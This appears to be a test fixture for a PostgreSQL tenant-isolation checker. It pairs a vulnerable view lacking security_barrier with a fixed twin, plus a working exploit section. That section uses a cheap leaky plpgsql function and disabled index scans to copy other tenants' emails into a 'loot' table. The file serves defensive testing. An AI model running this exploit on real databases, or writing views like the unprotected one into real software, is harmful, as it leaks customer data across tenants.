-- The view filters by tenant itself, but cheap functions see the rows first.
-- object: public.my_users
-- base: shop
--- setup
RESET ROLE;
--- leak
RESET ROLE; CREATE VIEW my_users AS SELECT id, email FROM users WHERE company_id = nullif(current_setting('rails.company_id', true), '')::bigint; GRANT SELECT ON my_users TO {web};
--- twin
RESET ROLE; CREATE VIEW my_users WITH (security_barrier) AS SELECT id, email FROM users WHERE company_id = nullif(current_setting('rails.company_id', true), '')::bigint; GRANT SELECT ON my_users TO {web};
--- exploit
CREATE TEMP TABLE loot (email text);
CREATE FUNCTION pg_temp.peek(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN INSERT INTO loot VALUES ($1); RETURN true; END $$;
SET LOCAL enable_indexscan = off; SET LOCAL enable_bitmapscan = off; SET LOCAL enable_indexonlyscan = off;
SELECT FROM my_users WHERE pg_temp.peek(email);
SELECT FROM loot WHERE email LIKE 'bob%';
